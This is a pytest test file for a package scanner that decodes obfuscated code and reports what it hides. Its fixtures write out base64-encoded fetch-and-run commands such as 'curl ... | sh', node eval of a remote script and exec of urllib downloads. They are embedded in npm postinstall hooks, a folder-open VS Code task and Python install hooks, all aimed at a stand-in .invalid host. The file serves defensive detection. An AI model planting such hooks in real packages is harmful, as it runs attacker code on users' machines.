from __future__ import annotations

import json
from base64 import b64encode
from time import process_time

import pytest

from darnel.attribution import Reason
from darnel.decoded import decoded
from darnel.excerpts import with_excerpts
from darnel.features.extract import extract
from darnel.features.languages.registry import language_for
from darnel.features.limits import DEFAULT_LIMITS
from darnel.features.package import Ecosystem, MemoryPackage
from tests.darnel.builders import evidence

INERT = {
    "a.py": b"# inert\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk7aW1wb3J0IG9z'))\n",
    "b.py": b"# inert\nimport os\nos.system(''.join(['curl ht', 'tp://a.exam', 'ple.invalid']))\n",
    "c.js": b"// inert\nfetch(Buffer.from('aHR0cDovL2EuZXhhbXBsZS5pbnZhbGlk', 'base64').toString());\n",
    "d.py": b"# inert\nprint('nothing hidden')\n",
    "e.txt": b"aHR0cDovL2EuZXhhbXBsZS5pbnZhbGlk\n",
}


def shown(path: str) -> list[str]:
    data = INERT[path]
    language = language_for(path, data)
    seen = language.analyse(data, DEFAULT_LIMITS).observations if language else []
    places = [Reason(evidence(file=path, line=o.line), o.order, o.statement) for o in seen] or [Reason(evidence())]
    return decoded(path, data, places)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("a.py", "base64 → print(1);import os"),
        ("b.py", "join → curl hxxp://a[.]example[.]invalid"),
        ("c.js", "base64 → hxxp://a[.]example[.]invalid"),
    ],
)
def test_what_was_hidden(path: str, value: str) -> None:
    assert value in shown(path)


@pytest.mark.parametrize("path", ["d.py", "e.txt"])
def test_nothing_hidden(path: str) -> None:
    assert set(shown(path)) == {""}


def test_of_another_statement_nothing_is_said() -> None:
    assert decoded("a.py", INERT["a.py"], [Reason(evidence(line=2), 24, 8)]) == [""]


FETCH = b64encode(b"import urllib.request as u;exec(u.urlopen('https://a.example.invalid/p').read())").decode()
SCRIPT = b64encode(b"curl -s https://a.example.invalid/a.sh | sh").decode()
NODE = b64encode(b"require('https').get('https://a.example.invalid/x.js',r=>r.on('data',eval))").decode()
COMMANDS = {
    f"node -e \"eval(Buffer.from('{NODE}', 'base64').toString())\"": "base64 → require('https').get('hxxps://a[.]example",
    f"python3 -c \"import base64;exec(base64.b64decode('{FETCH}'))\"": "base64 → import urllib.request as u;exec(",
    f"echo {SCRIPT} | base64 -d | sh": "base64 → curl -s hxxps://a[.]example[.]invalid/a.sh | sh",
}
"""Inert: nothing answers at these addresses."""


def carriers(command: str) -> dict[str, tuple[Ecosystem, str, str]]:
    """Files that carry a command: ecosystem, content, and where it is found again."""
    quoted = json.dumps(command)
    task = {"label": "x", "type": "shell", "command": command, "runOptions": {"runOn": "folderOpen"}}
    return {
        "package.json": (Ecosystem.NPM, f'{{"name": "a",\n "scripts": {{"postinstall": {quoted}}}}}', "#postinstall"),
        ".vscode/tasks.json": (Ecosystem.NPM, json.dumps({"version": "2.0.0", "tasks": [task]}), "#tasks[0]"),
        "pyproject.toml": (Ecosystem.PYPI, f"[tool.pdm.scripts]\npost_install = {quoted}\n", ""),
        "setup.cfg": (Ecosystem.PYPI, f"[aliases]\ninstall = {command}\n", ""),
    }


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("path", ["package.json", ".vscode/tasks.json", "pyproject.toml"])
def test_what_is_hidden_in_the_commands_of_manifests(path: str, command: str) -> None:
    ecosystem, text, inside = carriers(command)[path]
    package = MemoryPackage({path: text.encode(), "a.py": b"", "a.js": b""}, ecosystem)
    file = next(file for file in extract(package)["files"] if file["path"] == path + inside)
    seen = file["observations"][0]
    about = evidence(file=file["path"], line=seen.line, behaviour="code.evaluate")
    (shown,) = with_excerpts(package, [Reason(about, seen.order, seen.statement)])
    assert shown.decoded.startswith(COMMANDS[command])


@pytest.mark.parametrize("command", COMMANDS)
def test_a_line_of_any_text(command: str) -> None:
    _, text, _ = carriers(command)["setup.cfg"]
    (shown,) = decoded("setup.cfg", text.encode(), [Reason(evidence(file="setup.cfg", line=2))])
    assert shown.startswith(COMMANDS[command])
    assert decoded("setup.cfg", text.encode(), [Reason(evidence(line=1)), Reason(evidence(line=9))]) == ["", ""]


def test_unclosed_strings_take_no_time() -> None:
    line = b'x = "' + b'\\"' * 40_000 + b"'" * 3
    started = process_time()
    decoded("setup.cfg", line, [Reason(evidence(line=1))])
    assert process_time() - started < 5


def test_binary_data_is_only_counted() -> None:
    blob = b"# inert\nimport base64, zlib\nexec(zlib.decompress(base64.b64decode('eJwrKMrMK9Ew1AQADwEC/w==')))\n"
    language = language_for("x.py", blob)
    assert language
    seen = language.analyse(blob, DEFAULT_LIMITS).observations
    values = decoded("x.py", blob, [Reason(evidence(), o.order, o.statement) for o in seen])
    assert "base64 → 16 bytes of binary data" in values
